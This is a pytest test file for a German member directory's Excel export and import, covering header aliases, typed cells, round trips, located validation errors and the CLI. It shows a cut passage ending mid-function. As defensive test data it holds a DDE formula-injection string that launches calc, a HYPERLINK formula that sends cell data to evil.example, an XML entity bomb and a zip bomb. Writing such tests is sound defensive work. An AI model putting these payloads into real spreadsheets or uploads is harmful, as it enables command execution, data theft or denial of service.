"""Member directory to and from Excel: export, import, every problem located, nothing half-done."""

from __future__ import annotations

import datetime as dt
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from membership_builders import TODAY, member, office_user
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from niro_desk import audit, cli
from niro_desk.database import Database, open_database
from niro_desk.errors import ImportRejected
from niro_desk.membership import member_import
from niro_desk.membership.member_export import HEADERS, MEMBER_FIELDS, export_members
from niro_desk.membership.member_import import (
    CAP_EXCEEDED,
    HEADER_ALIASES,
    header_key,
    import_members,
    preview_import,
)
from niro_desk.membership.membership_cap import set_cap
from niro_desk.membership.organisations import (
    OrganisationInput,
    create_organisation,
    set_fee,
)
from niro_desk.models import (
    AuditEntry,
    MembershipStatus,
    Organisation,
    OrganisationKind,
)
from niro_desk.workbook import check_workbook_archive, safe_cell, safe_open, unquote_cell

YEAR_2020 = dt.date(2020, 1, 1)
GERMAN = ["Firma", "Rechtsform", "Strasse", "PLZ", "Ort", "USt-IdNr.", "Mitarbeiter", "STATUS"]
GERMAN += ["Aufnahmedatum", "Antragsdatum", "Gruendungsmitglied", "Jahresbeitrag", "WZ"]
GERMAN += ["Produkte", "Materialien", "Notizen"]


def write_workbook(
    path: Path, headers: list[str], rows: list[list[Any]], title: str = "Mitglieder"
) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = title
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def german_row(name: str, vat: str = "", **overrides: Any) -> list[Any]:
    values: dict[str, Any] = {
        "Firma": name,
        "Rechtsform": "GmbH",
        "Strasse": "Hafenstraße 1",
        "PLZ": "59423",
        "Ort": "Unna",
        "USt-IdNr.": vat,
        "Mitarbeiter": 120,
        "STATUS": "Mitglied",
        "Aufnahmedatum": "01.03.2015",
        "Antragsdatum": dt.datetime(2015, 1, 12),
        "Gruendungsmitglied": "nein",
        "Jahresbeitrag": "1.234,56 €",
        "WZ": "28.41",
        "Produkte": "Werkzeugmaschinen",
        "Materialien": "Stahl; Strom",
        "Notizen": "",
    }
    values.update(overrides)
    return [values[header] for header in GERMAN]


def counts(db: Database) -> tuple[int, int]:
    """Organisations and audit entries: what an import may (not) have written."""
    with db.reading() as session:
        organisations = session.scalar(select(func.count()).select_from(Organisation))
        entries = session.scalar(select(func.count()).select_from(AuditEntry))
    return int(organisations or 0), int(entries or 0)


def audit_count(db: Database) -> int:
    with db.reading() as session:
        return session.scalar(select(func.count()).select_from(AuditEntry)) or 0


def located(error: ImportRejected) -> set[tuple[str, int, str]]:
    return {(problem.sheet, problem.row, problem.column) for problem in error.problems}


# --- headers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["de", "en"])
def test_every_exported_header_is_accepted_by_the_importer(language: str) -> None:
    for name in MEMBER_FIELDS:
        assert HEADER_ALIASES[header_key(HEADERS[language][name])] == name


def test_headers_match_regardless_of_case_umlauts_and_punctuation() -> None:
    assert HEADER_ALIASES[header_key("GRÜNDUNGSMITGLIED")] == "founding_member"
    assert HEADER_ALIASES[header_key("Gruendungsmitglied")] == "founding_member"
    assert HEADER_ALIASES[header_key("Grundungsmitglied")] == "founding_member"
    assert HEADER_ALIASES[header_key("Strasse")] == "street"
    assert HEADER_ALIASES[header_key("ust-id-nr")] == "vat_id"
    assert HEADER_ALIASES[header_key("vat id")] == "vat_id"


# --- safe cells and archive checks -----------------------------------------------------------


def test_safe_cell_neutralises_formula_starts_and_keeps_phone_numbers() -> None:
    for text in ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1", "- Punkt"]:
        assert safe_cell(text) == "'" + text
        assert unquote_cell(safe_cell(text)) == text
    for value in ["+49 2303 123456", "-5", "Hellweg GmbH", 5, Decimal("1.50"), None, TODAY]:
        assert safe_cell(value) == value
    assert unquote_cell("'Ohne Formel") == "'Ohne Formel"


def test_streaming_reader_reads_inline_strings_as_openpyxl_does(tmp_path: Path) -> None:
    """The short path for plain inline strings gives openpyxl's values, rich text included."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    for n in range(7):
        sheet.append([f"X{n}", n, None, f"Y{n}"])
    workbook.save(tmp_path / "plain.xlsx")
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    xml = parts[name].decode()
    for n, shape in enumerate(
        [
            '<t xml:space="preserve">  a b </t>',
            "<t/>",
            "<r><rPr><b/></rPr><t>bo</t></r><r><t>ld</t></r>",
            '<t>base</t><rPh sb="0" eb="1"><t>ph</t></rPh>',
            "",
            "<t>a&amp;b &#233;</t>",
        ]
    ):
        xml = xml.replace(f"<is><t>X{n}</t></is>", f"<is>{shape}</is>")
    parts[name] = xml.encode()
    path = _archive(tmp_path / "shapes.xlsx", parts)

    expected = load_workbook(path, read_only=True, data_only=True).worksheets[0]
    expected.reset_dimensions()
    read = safe_open.read_rows(
        safe_open.load_workbook(path).worksheets[0], path.name, max_rows=100, max_columns=4
    )
    rows = [tuple(row) for row in expected.iter_rows(values_only=True, max_col=4)]
    assert [values for _number, values in read.rows] == rows
    assert [row[0] for row in rows] == ["  a b ", "", "bold", "base", "", "a&b é", "X6"]


def test_sheets_declaring_entities_are_refused_and_only_dtd_free_ones_skip_defusedxml(
    tmp_path: Path,
) -> None:
    """The C parser reads a sheet only when no DOCTYPE can be in it; entity bombs stay refused."""
    workbook = Workbook(write_only=True)
    workbook.create_sheet("S").append(["Name"])
    workbook.save(tmp_path / "plain.xlsx")
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    xml = parts[name].decode()
    assert safe_open._declaration_free(xml.encode())
    bomb = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    body = xml[xml.index("<worksheet") :].replace("<t>Name</t>", "<t>&b;</t>")
    parts[name] = ('<?xml version="1.0" encoding="UTF-8"?>' + bomb + body).encode()
    path = _archive(tmp_path / "entities.xlsx", parts)
    assert not safe_open._declaration_free(parts[name])
    with pytest.raises(ImportRejected), safe_open.open_workbook(path) as opened:
        safe_open.read_rows(opened.worksheets[0], path.name, max_rows=10)
    for head in [
        b'<?xml version="1.0" encoding="UTF-16"?><worksheet>',
        b"\xff\xfe<\x00w\x00",
        b"<!-- a comment never closed",
        b'<?xml version="1.0"?>',
    ]:
        assert not safe_open._declaration_free(head)
    assert safe_open._declaration_free(b"\xef\xbb\xbf<!-- c --><?pi x?>\n<worksheet>")


def _archive(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


@pytest.fixture
def parser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("openpyxl must not open a refused file")

    monkeypatch.setattr(safe_open, "load_workbook", refuse)


def test_non_workbooks_are_refused_before_parsing(
    db: Database, tmp_path: Path, parser_must_not_run: None
) -> None:
    text = tmp_path / "mitglieder.xlsx"
    text.write_text("Name;Ort\nHellweg GmbH;Unna\n", encoding="utf-8")
    csv = tmp_path / "mitglieder.csv"
    csv.write_text("Name;Ort\n", encoding="utf-8")
    old = tmp_path / "mitglieder.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    docx = _archive(tmp_path / "brief.xlsx", {"[Content_Types].xml": b"<x/>", "word/d.xml": b""})
    with db.reading() as session:
        for path, words in [
            (text, "is not an Excel workbook"),
            (csv, "is not an Excel workbook"),
            (old, "old Excel format"),
            (docx, "is not an Excel workbook"),
            (tmp_path / "missing.xlsx", "does not exist"),
        ]:
            with pytest.raises(ImportRejected) as raised:
                preview_import(session, path)
            assert words in str(raised.value)
            assert path.name in str(raised.value)


def test_zip_bomb_is_refused_before_parsing(
    db: Database, tmp_path: Path, parser_must_not_run: None
) -> None:
    bomb = _archive(
        tmp_path / "bomb.xlsx",
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"\0" * (20 * 1024 * 1024),
        },
    )
    assert bomb.stat().st_size < 100_000
    with db.reading() as session, pytest.raises(ImportRejected) as raised:
        preview_import(session, bomb)
    assert "zip bomb" in str(raised.value)
    assert "xl/worksheets/sheet1.xml" in str(raised.value)


def test_archive_limits_on_total_size_and_part_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    parts |= {f"xl/media/image{n}.bin": bytes(range(256)) * 8 for n in range(20)}
    path = _archive(tmp_path / "viele.xlsx", parts)
    check_workbook_archive(path)  # within the real limits
    monkeypatch.setattr(safe_open, "MAX_MEMBERS", 10)
    with pytest.raises(ImportRejected, match="22 parts"):
        check_workbook_archive(path)
    monkeypatch.setattr(safe_open, "MAX_MEMBERS", 5_000)
    monkeypatch.setattr(safe_open, "MAX_UNCOMPRESSED_BYTES", 10_000)
    with pytest.raises(ImportRejected, match="unpacked"):
        check_workbook_archive(path)


# --- export ----------------------------------------------------------------------------------


def test_export_writes_typed_formatted_cells_and_neutralises_formulas(
    db: Database, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Hier klicken")'
    with db.transaction() as session:
        organisation = member(session, evil, ["25.62"], ["Drehteile"], ["Stahl"])
        organisation.notes = "+1+cmd|' /C calc'!A0"
        set_fee(session, office_user(session), organisation.id, YEAR_2020, Decimal("1234.50"))
    path = tmp_path / "mitglieder.xlsx"
    with db.reading() as session:
        assert export_members(session, path, "de") == 1

    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Mitglieder", "Warteliste", "Ansprechpartner"]
    sheet = workbook["Mitglieder"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == [HEADERS["de"][name] for name in MEMBER_FIELDS]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:S{sheet.max_row}"
    row = {header: sheet.cell(row=2, column=index) for index, header in enumerate(headers, 1)}
    assert row["Name"].data_type == "s"
    assert row["Name"].value == "'" + evil
    assert row["Notizen"].value == "'+1+cmd|' /C calc'!A0"
    assert row["Aufnahmedatum"].is_date
    assert row["Aufnahmedatum"].value.date() == TODAY
    assert row["Aufnahmedatum"].number_format == "DD.MM.YYYY"
    assert row["Jahresbeitrag"].value == Decimal("1234.50")
    assert row["Jahresbeitrag"].number_format == "#,##0.00 €"
    assert row["Status"].value == "Mitglied"
    assert row["WZ"].value == "25.62"
    assert sheet.column_dimensions["A"].width == 48  # long names: capped, not page-wide
    formulas = [
        cell.coordinate
        for worksheet in workbook.worksheets
        for line in worksheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert formulas == []
    workbook.close()

    # the neutralised name comes back as it was, matched to the same organisation
    with db.reading() as session:
        preview = preview_import(session, path)
    assert preview.problems == []
    assert [(row.name, row.action) for row in preview.rows] == [(evil, "unchanged")]


def sheet_values(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    workbook = load_workbook(path, read_only=True)
    try:
        return {
            sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)]
            for sheet in workbook.worksheets
        }
    finally:
        workbook.close()


@pytest.mark.parametrize("language", ["de", "en"])
def test_export_then_reimport_is_all_unchanged_and_nothing_to_do(
    demo_db: Database, tmp_path: Path, language: str
) -> None:
    path = tmp_path / f"members_{language}.xlsx"
    calls: list[tuple[int, int]] = []
    with demo_db.reading() as session:
        exported = export_members(session, path, language, lambda d, t: calls.append((d, t)))
        members = session.scalar(
            select(func.count())
            .select_from(Organisation)
            .where(Organisation.membership_status == MembershipStatus.MEMBER)
        )
    assert exported == members and exported > 0
    assert calls[-1][0] == calls[-1][1]
    before = counts(demo_db)
    audit_before = audit_count(demo_db)
    with demo_db.transaction() as session:
        preview = import_members(session, office_user(session), path, language=language)
    assert preview.problems == []
    kinds = {(row.sheet, row.kind) for row in preview.rows}
    assert {kind for _, kind in kinds} == {"organisation", "contact"}
    assert len({sheet for sheet, _ in kinds}) == 3  # members, waiting list, contacts
    assert {row.action for row in preview.rows} == {"unchanged"}
    assert preview.nothing_to_do
    # the same data again: nothing added, nothing audited
    assert counts(demo_db) == before
    assert audit_count(demo_db) == audit_before


def test_round_trip_into_an_empty_database_keeps_every_sheet(
    demo_db: Database, db: Database, tmp_path: Path
) -> None:
    """demo → export → import into an empty database → export again: every sheet equal."""
    first = tmp_path / "demo.xlsx"
    with demo_db.reading() as session:
        export_members(session, first, "de")
    with db.transaction() as session:
        preview = import_members(session, office_user(session), first, language="de")
    assert preview.problems == []
    assert {row.action for row in preview.rows} == {"new"}
    second = tmp_path / "again.xlsx"
    with db.reading() as session:
        export_members(session, second, "de")
    before, after = sheet_values(first), sheet_values(second)
    assert list(before) == list(after) == ["Mitglieder", "Warteliste", "Ansprechpartner"]
    for title in before:
        assert len(before[title]) > 1, title
        assert before[title] == after[title], title


def test_unknown_sheets_are_reported_as_skipped(db: Database, tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "extra.xlsx", GERMAN, [german_row("Hellweg GmbH")])
    workbook = load_workbook(path)
    notes = workbook.create_sheet("Notizen")
    notes.append(["Telefonliste vom Sommerfest"])
    workbook.save(path)
    with db.reading() as session:
        preview = preview_import(session, path)
    assert preview.problems == []
    assert any("Sheet “Notizen” was skipped" in warning for warning in preview.warnings)


# --- import ----------------------------------------------------------------------------------


def test_good_german_file_imports_with_audit_entries(db: Database, tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "Mitgliederliste.xlsx",
        GERMAN,
        [
            german_row("Hellweg Werkzeugmaschinen GmbH", "DE123456788", Gruendungsmitglied="x"),
            german_row(
                "Dresdner Drehteile GmbH",
                "DE 234 567 894",
                PLZ=1067,
                Ort="Dresden",
                STATUS="Warteliste",
                Aufnahmedatum=None,
                Antragsdatum="15.09.2026",
                Jahresbeitrag=None,
                WZ=25.5,
                Produkte="Drehteile, Präzisionsdrehteile",
            ),
            german_row(
                "Ruhr Federn KG",
                STATUS="bewerber",
                Aufnahmedatum="",
                Antragsdatum=dt.datetime(2026, 10, 1),
                Jahresbeitrag=900,
                WZ="25.93",
                Produkte="Federn",
            ),
        ],
    )
    assert counts(db) == (0, 0)
    progress: list[tuple[int, int]] = []
    with db.transaction() as session:
        preview = import_members(
            session, office_user(session), path, lambda d, t: progress.append((d, t))
        )
    assert preview.problems == []
    assert [(row.row, row.action, row.status) for row in preview.rows] == [
        (2, "new", "member"),
        (3, "new", "waiting"),
        (4, "new", "applicant"),
    ]
    assert progress[-1] == (6, 6)
    with db.reading() as session:
        first = session.scalars(select(Organisation).order_by(Organisation.id)).all()
        hellweg, dresden, federn = first
        assert hellweg.kind == OrganisationKind.MEMBER
        assert hellweg.membership_status == MembershipStatus.MEMBER
        assert hellweg.vat_id == "DE123456788"
        assert hellweg.membership is not None
        assert hellweg.membership.admission_date == dt.date(2015, 3, 1)
        assert hellweg.membership.application_date == dt.date(2015, 1, 12)
        assert hellweg.membership.founding_member
        assert [(fee.valid_from, fee.annual_fee) for fee in hellweg.membership.fees] == [
            (dt.date(2015, 3, 1), Decimal("1234.56"))
        ]
        assert [code.code for code in hellweg.sales_codes] == ["28.41"]
        assert sorted(m.name for m in hellweg.materials) == ["Stahl", "Strom"]
        assert dresden.membership_status == MembershipStatus.WAITING
        assert dresden.postal_code == "01067"
        assert dresden.vat_id == "DE234567894"
        assert [code.code for code in dresden.sales_codes] == ["25.50"]  # 25.5 in Excel
        assert sorted(m.name for m in dresden.product_markets) == [
            "Drehteile",
            "Präzisionsdrehteile",
        ]
        assert dresden.membership is not None
        assert dresden.membership.waiting_since == dt.datetime(2026, 9, 15, tzinfo=dt.UTC)
        assert dresden.membership.fees == []
        assert federn.membership_status == MembershipStatus.APPLICANT
        assert federn.membership is not None
        assert federn.membership.fees[0].valid_from == dt.date(2026, 10, 1)
        actions = {(entry.entity_id, entry.action) for entry in session.scalars(select(AuditEntry))}
        assert {
            (hellweg.id, "create"),
            (hellweg.id, "import"),
            (hellweg.id, "update_membership"),
            (hellweg.id, "fee"),
            (hellweg.id, "update_sales"),
            (dresden.id, "import"),
            (federn.id, "fee"),
        } <= actions
        assert (federn.id, "import") not in actions  # it stays an applicant: nothing to record


def test_update_matched_by_vat_id_renames_and_audits(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        user = office_user(session)
        organisation = create_organisation(
            session,
            user,
            OrganisationInput(
                name="Hellweg WZM GmbH", legal_form="GmbH", vat_id="DE123456788", city="Unna"
            ),
            OrganisationKind.MEMBER,
            dt.date(2015, 1, 12),
        )
        organisation_id = organisation.id
    path = write_workbook(
        tmp_path / "update.xlsx",
        ["Name", "Legal form", "VAT ID", "City", "Status", "Admission date", "Annual fee"],
        [
            [
                "Hellweg Werkzeugmaschinen GmbH",
                None,
                "DE123456788",
                "Kamen",
                "member",
                "01.03.2015",
                800,
            ]
        ],
    )
    with db.transaction() as session:
        preview = import_members(session, office_user(session), path)
    assert [(row.action, row.name) for row in preview.rows] == [
        ("update", "Hellweg Werkzeugmaschinen GmbH")
    ]
    assert "Row 2: the status of Hellweg WZM GmbH changes from “applicant” to “member”." in (
        preview.warnings
    )
    assert (
        "Row 2: empty cells clear what NIRO Desk holds for Hellweg WZM GmbH in: “Legal form”."
        in (preview.warnings)
    )
    with db.reading() as session:
        organisation = session.get(Organisation, organisation_id)
        assert organisation is not None
        assert (organisation.name, organisation.legal_form, organisation.city) == (
            "Hellweg Werkzeugmaschinen GmbH",
            "",
            "Kamen",
        )
        assert organisation.membership_status == MembershipStatus.MEMBER
        assert session.scalar(select(func.count()).select_from(Organisation)) == 1
        actions = [entry.action for entry in session.scalars(select(AuditEntry))]
        assert actions.count("update") == 1 and "import" in actions and "fee" in actions


def test_broken_file_reports_every_problem_where_it_is_and_writes_nothing(
    db: Database, tmp_path: Path
) -> None:
    path = write_workbook(
        tmp_path / "kaputt.xlsx",
        GERMAN,
        [
            german_row("Gute Firma GmbH", "DE123456788"),
            german_row("Falsche USt GmbH", "DE123456789"),
            german_row("Falscher Code GmbH", WZ="25.62, 99.99"),
            german_row("Falsches Datum GmbH", Aufnahmedatum="31.02.2015"),
            german_row("Falscher Status GmbH", STATUS="Ehrenmitglied"),
            german_row("gute firma gmbh"),
            german_row("Falscher Beitrag GmbH", Jahresbeitrag="viel"),
        ],
    )
    before = counts(db)
    with pytest.raises(ImportRejected) as raised, db.transaction() as session:
        import_members(session, office_user(session), path)
    assert counts(db) == before
    assert located(raised.value) == {
        ("Mitglieder", 3, "USt-IdNr."),
        ("Mitglieder", 4, "WZ"),
        ("Mitglieder", 5, "Aufnahmedatum"),
        ("Mitglieder", 6, "STATUS"),
        ("Mitglieder", 7, "Firma"),
        ("Mitglieder", 8, "Jahresbeitrag"),
    }
    assert "6 problem(s)" in str(raised.value)
    texts = [str(problem) for problem in raised.value.problems]
    assert texts[0].startswith("Sheet “Mitglieder”, row 3, column “USt-IdNr.”: “DE123456789”")
    assert "“99.99” is not a NACE class" in texts[1]
    assert "“31.02.2015” is not a date" in texts[2]
    assert "“Ehrenmitglied” is not a membership status" in texts[3]
    assert "Row 2 already has the name" in texts[4]

    # the preview shows the same problems and still lists every row
    with db.reading() as session:
        preview = preview_import(session, path)
    assert len(preview.rows) == 7
    assert [str(p) for p in preview.problems] == texts


def test_missing_dates_and_dates_that_contradict_the_status(db: Database, tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "daten.xlsx",
        GERMAN,
        [
            german_row("Ohne Aufnahme GmbH", Aufnahmedatum=None),
            german_row("Wartet GmbH", STATUS="Warteliste"),
            german_row("Spät beantragt GmbH", Antragsdatum="01.05.2015"),
            german_row("Ohne Daten GmbH", STATUS="ehemalig", Aufnahmedatum=None, Antragsdatum=None),
        ],
    )
    with db.reading() as session:
        preview = preview_import(session, path)
    assert {(p.row, p.column) for p in preview.problems} == {
        (2, "Aufnahmedatum"),
        (3, "Aufnahmedatum"),
        (4, "Antragsdatum"),
        (5, "Antragsdatum"),
    }


def test_import_beyond_the_cap_is_refused(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        set_cap(session, office_user(session), 2)
        member(session, "Vorhandenes Mitglied GmbH", ["25.99"])
    path = write_workbook(
        tmp_path / "zu_viele.xlsx",
        GERMAN,
        [
            german_row("Neu Eins GmbH", WZ="28.13", Produkte="Pumpen"),
            german_row("Neu Zwei GmbH", WZ="22.29", Produkte="Kunststoffprofile"),
        ],
    )
    before = counts(db)
    with pytest.raises(ImportRejected) as raised, db.transaction() as session:
        import_members(session, office_user(session), path)
    assert counts(db) == before
    assert [(p.row, p.column, p.template) for p in raised.value.problems] == [
        (3, "STATUS", CAP_EXCEEDED)
    ]
    assert "3 members, more than the cap of 2" in str(raised.value.problems[0])

    path = write_workbook(
        tmp_path / "mit_warteliste.xlsx",
        GERMAN,
        [
            german_row("Neu Eins GmbH", WZ="28.13", Produkte="Pumpen"),
            german_row(
                "Neu Zwei GmbH",
                WZ="22.29",
                Produkte="Kunststoffprofile",
                STATUS="Warteliste",
                Aufnahmedatum=None,
            ),
        ],
    )
    with db.transaction() as session:
        import_members(session, office_user(session), path)
    assert counts(db)[0] == before[0] + 2


def test_competitor_conflicts_are_warnings_and_do_not_stop_the_import(
    db: Database, tmp_path: Path
) -> None:
    with db.transaction() as session:
        member(session, "Ruhr Drehteile GmbH", ["25.62"], ["Drehteile"])
    path = write_workbook(
        tmp_path / "konkurrenz.xlsx",
        GERMAN,
        [
            german_row("Ruhrtal Präzisionsdrehteile GmbH", WZ="25.62", Produkte="Drehteile"),
            german_row("Hamm Pumpen GmbH", WZ="28.13", Produkte="Hydraulikpumpen"),
            german_row("Lippe Pumpenbau GmbH", WZ="28.13", Produkte="Pumpen"),
            german_row("Stahlkäufer GmbH", WZ="22.29", Produkte="Profile", Materialien="Stahl"),
        ],
    )
    with db.transaction() as session:
        preview = import_members(session, office_user(session), path, language="de")
    assert preview.problems == []
    conflicts = [w for w in preview.warnings if w.startswith("Possible competitors")]
    assert len(conflicts) == 2, conflicts
    assert "2 organisations sell in NACE class 25.62" in conflicts[0]
    assert "Ruhrtal Präzisionsdrehteile GmbH (row 2)" in conflicts[0]
    assert "Ruhr Drehteile GmbH (in NIRO Desk)" in conflicts[0]
    assert "NACE class 28.13" in conflicts[1]
    assert "Hamm Pumpen GmbH (row 3), Lippe Pumpenbau GmbH (row 4)" in conflicts[1]
    assert not any("Stahlkäufer" in warning for warning in preview.warnings)  # inputs only
    assert counts(db)[0] == 5


def test_a_customer_of_the_same_name_is_not_turned_into_a_member(
    db: Database, tmp_path: Path
) -> None:
    with db.transaction() as session:
        create_organisation(
            session,
            office_user(session),
            OrganisationInput(name="Kunde GmbH"),
            OrganisationKind.CUSTOMER,
        )
    path = write_workbook(tmp_path / "kunde.xlsx", GERMAN, [german_row("Kunde GmbH")])
    with db.reading() as session:
        preview = preview_import(session, path)
    assert [(p.row, p.column) for p in preview.problems] == [(2, "Firma")]
    assert "as a customer" in str(preview.problems[0])


def test_file_without_header_row_or_rows(db: Database, tmp_path: Path) -> None:
    no_header = write_workbook(tmp_path / "ohne.xlsx", ["Foo", "Bar"], [["a", "b"]], "Tabelle1")
    header_only = write_workbook(tmp_path / "leer.xlsx", GERMAN, [])
    with db.reading() as session:
        preview = preview_import(session, no_header)
        assert [str(p) for p in preview.problems] == [
            "Sheet “Tabelle1”: No header row found in the first 20 rows: the import needs a"
            " column “Name” (or “Firma”) and the other columns named as in the exported"
            " member list."
        ]
        preview = preview_import(session, header_only)
        assert [(p.row, p.column) for p in preview.problems] == [(2, "")]


# --- command line ----------------------------------------------------------------------------


@pytest.mark.usefixtures("qapp")
def test_cli_dry_run_writes_nothing_then_import_writes(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_workbook(
        tmp_path / "mitglieder.xlsx",
        GERMAN,
        [german_row("Hellweg Werkzeugmaschinen GmbH"), german_row("Kamen Stanztechnik GmbH")],
    )
    argv = ["--lang", "en", "--database", database_url, "members", "import", str(path)]
    db = open_database(database_url)
    try:
        before = counts(db)
        assert cli.main([*argv, "--dry-run"]) == 0
        out = capsys.readouterr().out
        assert "Mitglieder, row 2: new" in out and "Hellweg Werkzeugmaschinen GmbH" in out
        assert "2 new, 0 to update, 0 unchanged." in out
        assert "Dry run: nothing was written." in out
        assert counts(db) == before

        assert cli.main(argv) == 0
        assert "2 rows imported." in capsys.readouterr().out
        assert counts(db)[0] == before[0] + 2

        export = tmp_path / "export.xlsx"
        assert cli.main([*argv[:4], "members", "export", str(export)]) == 0
        assert "2 members written to" in capsys.readouterr().out
        assert cli.main([*argv[:5], "import", str(export), "--dry-run"]) == 0
        assert "Nothing to do: the workbook matches NIRO Desk." in capsys.readouterr().out
    finally:
        db.dispose()


@pytest.mark.usefixtures("qapp")
def test_cli_import_with_problems_prints_each_and_exits_1(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_workbook(
        tmp_path / "kaputt.xlsx",
        GERMAN,
        [german_row("Gut GmbH"), german_row("Schlecht GmbH", "DE123456789", WZ="99.99")],
    )
    db = open_database(database_url)
    try:
        before = counts(db)
        code = cli.main(
            ["--lang", "en", "--database", database_url, "members", "import", str(path)]
        )
        err = capsys.readouterr().err
        assert code == 1
        assert "kaputt.xlsx was not imported: 2 problem(s) found. Nothing was written." in err
        assert "Sheet “Mitglieder”, row 3, column “USt-IdNr.”:" in err
        assert "Sheet “Mitglieder”, row 3, column “WZ”: “99.99” is not a NACE class" in err
        assert counts(db) == before
    finally:
        db.dispose()


# --- issue 7: values both engines can store, same checks in the dry run and the import -------


def _with_raw_numbers(path: Path, numbers: dict[str, str]) -> Path:
    """Replace placeholder numbers in the first sheet's XML (1E309 cannot be written otherwise)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    for placeholder, raw in numbers.items():
        assert f"<v>{placeholder}</v>" in sheet
        sheet = sheet.replace(f"<v>{placeholder}</v>", f"<v>{raw}</v>")
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def test_values_beyond_what_the_database_stores_are_problems_in_preview_and_import(
    db: Database, tmp_path: Path
) -> None:
    rows = [
        german_row("NaN GmbH", Jahresbeitrag="NaN"),
        german_row("sNaN GmbH", Jahresbeitrag="sNaN"),
        german_row("Minus NaN GmbH", Jahresbeitrag="-NaN"),
        german_row("Riesig GmbH", Jahresbeitrag=1e30),
        german_row("Unendlich GmbH", Jahresbeitrag=12345.678),
        german_row("Groß GmbH", Jahresbeitrag=1e20),
        german_row("Viele Leute GmbH", Mitarbeiter=1e20),
        german_row("Drei Milliarden GmbH", Mitarbeiter=3_000_000_000),
        german_row("Text Milliarden GmbH", Mitarbeiter="3.000.000.000"),
        german_row("Gerade noch GmbH", Mitarbeiter=2_147_483_647, Jahresbeitrag="9.999,99"),
    ]
    path = write_workbook(tmp_path / "grenzen.xlsx", GERMAN, rows)
    _with_raw_numbers(path, {"12345.678": "1E309"})
    expected = {("Mitglieder", row, "Jahresbeitrag") for row in range(2, 8)}
    expected |= {("Mitglieder", row, "Mitarbeiter") for row in (8, 9, 10)}
    expected.discard(("Mitglieder", 7, "Jahresbeitrag"))
    expected.add(("Mitglieder", 7, "Jahresbeitrag"))  # 1E20 €
    before = counts(db)
    with db.reading() as session:
        preview = preview_import(session, path)
    dry_run = {(p.sheet, p.row, p.column) for p in preview.problems}
    assert dry_run == expected, preview.problems
    assert all("range" in p.text() or "not an amount" in p.text() for p in preview.problems)
    with db.transaction() as session, pytest.raises(ImportRejected) as raised:
        import_members(session, office_user(session), path)
    assert located(raised.value) == dry_run  # the real import runs the very same checks
    assert counts(db) == before


@pytest.mark.parametrize(
    "parser",
    [
        "whole",
        "decimal",
        "date",
        "yes_no",
        "status",
        "codes",
        "list",
    ],
)
def test_parsers_take_any_cell_value_without_crashing(parser: str) -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from niro_desk.membership import member_import_rows as rows
    from niro_desk.workbook import (
        CellError,
        parse_date,
        parse_decimal,
        parse_whole_number,
        parse_yes_no,
        split_list,
    )

    cells = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(allow_nan=True, allow_infinity=True),
        st.decimals(allow_nan=True, allow_infinity=True),
        st.text(max_size=80),
        st.sampled_from(["NaN", "sNaN", "-NaN", "1E309", "-inf", "1.234,56 €", "1e20", "١٢٣"]),
        st.dates(),
        st.datetimes(),
    )
    parsers = {
        "whole": lambda v: parse_whole_number(v, minimum=0, maximum=rows.EMPLOYEES_MAXIMUM),
        "decimal": lambda v: parse_decimal(v, places=2, maximum=rows.FEE_MAXIMUM),
        "date": parse_date,
        "yes_no": lambda v: parse_yes_no(v, rows.YES_WORDS, rows.NO_WORDS),
        "status": rows.parse_status,
        "codes": rows.parse_codes,
        "list": split_list,
    }
    parse = parsers[parser]

    @settings(max_examples=300, deadline=None, database=None)
    @given(cells)
    def check(value: Any) -> None:
        try:
            result = parse(value)
        except CellError as error:
